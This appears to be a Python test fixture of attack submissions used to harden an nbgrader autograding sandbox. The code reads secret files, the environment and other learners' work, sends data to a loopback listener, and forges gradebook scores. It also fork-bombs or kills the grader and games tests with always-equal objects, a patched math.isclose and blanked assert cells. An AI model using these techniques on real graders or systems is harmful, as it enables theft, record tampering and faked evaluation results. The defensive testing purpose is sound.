"""Attack submissions (learner code placed in the `squares` solution cell).

Every attacker also defines honest `squares` and `mean`, so its honest work is full marks: any score
above that, or any change to someone else's, is the attack working. None of this code contains a
canary value; it only knows where secrets live (paths an attacker could guess) or asks for them.
"""

from __future__ import annotations

from grading_course import HONEST


def _with(prelude: str) -> dict[str, str]:
    return {"squares": prelude + "\n" + HONEST["squares"], "mean": HONEST["mean"]}


def readers(course: str, key_file: str, port: int, token: str) -> dict[str, dict[str, str]]:
    """Batch A: attacks that read or reach beyond the working copy."""
    return {
        # Solutions and instructor files: the course's source notebook, a secret file, and the
        # notebook on disk in the working directory (nbgrader's sanitized copy holds hidden tests).
        "reader": _with(f"""
import glob, os
for path in [{course!r} + '/source/ps1/problem1.ipynb', '../../../source/ps1/problem1.ipynb',
             {course!r} + '/instructor-secret.txt', '../../../instructor-secret.txt',
             *glob.glob('*.ipynb')]:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # Other learners' work.
        "peeker": _with(f"""
import glob
for path in glob.glob({course!r} + '/submitted/*/ps1/*.ipynb') + glob.glob('../../../submitted/*/ps1/*.ipynb'):
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # The grader's environment and the issuer's key file.
        "thief": _with(f"""
import os
print(dict(os.environ))
for path in [os.environ.get('CREDKIT_KEY_FILE', ''), {key_file!r}]:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # The network: a listener on the grader's loopback.
        "netcat": _with(f"""
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
    s.sendall(b'exfiltrated by netcat')
    s.close()
    print('connected')
except OSError as exc:
    print('blocked', type(exc).__name__)
"""),
        # Writing outside the working copy, and one very large file inside it.
        "writer": _with(f"""
for path in [{course!r} + '/PWNED-{token}', '../../../PWNED-{token}-rel', '/tmp/PWNED-{token}']:
    try:
        open(path, 'w').write('pwned')
        print('wrote', path)
    except OSError as exc:
        print('blocked', path, type(exc).__name__)
try:
    with open('big.bin', 'wb') as fh:
        for _ in range(100):
            fh.write(b'0' * 1024 * 1024)
    print('WROTE 100 MiB')
except OSError as exc:
    print('blocked big file', type(exc).__name__)
"""),
    }


def resources(course: str) -> dict[str, dict[str, str]]:
    """Batch B: attacks on the gradebook, on resources and on the grading process."""
    return {
        # Rewrite the gradebook: full marks for itself, zero for everyone else (manual beats auto).
        "forger": _with(f"""
import sqlite3
for path in [{course!r} + '/gradebook.db', '../../../gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute('''UPDATE grade SET manual_score = CASE WHEN notebook_id IN (
            SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id
            WHERE sa.student_id = 'forger') THEN 100 ELSE 0 END''')
        db.commit()
        print('forged', path)
        break
    except Exception as exc:
        print('blocked', path, type(exc).__name__)
"""),
        # A (bounded) fork bomb: 200 children, each becoming a short sleep.
        "forkbomb": _with("""
import os
n = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.execv('/bin/sleep', ['sleep', '3'])
    n += 1
print('FORKED', n)
"""),
        # A memory bomb: 3 GiB of address space (the kernel hands out zero pages lazily).
        "bigmem": _with("""
try:
    block = bytes(3 * 1024 ** 3)
    print('ALLOCATED 3 GiB')
    del block
except MemoryError:
    print('blocked MemoryError')
"""),
        # Output flood: 30 MB of rich output, which nbgrader's LimitOutput never trims.
        "flooder": _with("""
from IPython.display import display
for i in range(30):
    display({'text/plain': 'F' * (1024 * 1024)}, raw=True)
"""),
        # Kill the grading process (the kernel's parent): under stock nbgrader, the whole batch.
        "killer": _with("""
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""),
        # Kill its own kernel.
        "suicide": _with("""
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""),
        # An infinite loop that ignores interrupts.
        "hanger": _with("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""),
    }


def in_kernel(course: str) -> dict[str, dict[str, str]]:
    """Batch C: attacks on the tests from inside the kernel. Their honest work is noted per attack."""
    return {
        # Honest work: mean only (5). `squares` returns an object equal to anything.
        "eqcheat": {
            "squares": "class Anything:\n    def __eq__(self, other):\n        return True\n\n"
                       "def squares(n):\n    return Anything()\n",
            "mean": HONEST["mean"],
        },
        # Honest work: squares only (5). `mean` is hard-coded and math.isclose patched to agree.
        "patcher": {
            "squares": HONEST["squares"] + "import math\nmath.isclose = lambda *a, **k: True\n",
            "mean": "def mean(xs):\n    return 2.0\n",
        },
        # Honest work: nothing (0). An input transformer blanks every later cell that asserts.
        "blanker": {
            "squares": "def squares(n):\n    return []\n\n"
                       "get_ipython().input_transformers_cleanup.append(\n"
                       "    lambda lines: [] if any('assert' in l for l in lines) else lines)\n",
            "mean": BLANK_MEAN,
        },
        # Honest work: full (10). Under the autograder only, it zeroes another learner's grades.
        "detector": _with(f"""
import os, sqlite3
if os.environ.get('NBGRADER_EXECUTION') == 'autograde':
    try:
        db = sqlite3.connect({course!r} + '/gradebook.db')
        db.execute('''UPDATE grade SET manual_score = 0 WHERE notebook_id IN (
            SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id
            WHERE sa.student_id = 'alice')''')
        db.commit()
        print('forged')
    except Exception as exc:
        print('blocked', type(exc).__name__)
"""),
    }


BLANK_MEAN = "def mean(xs):\n    raise NotImplementedError()\n"
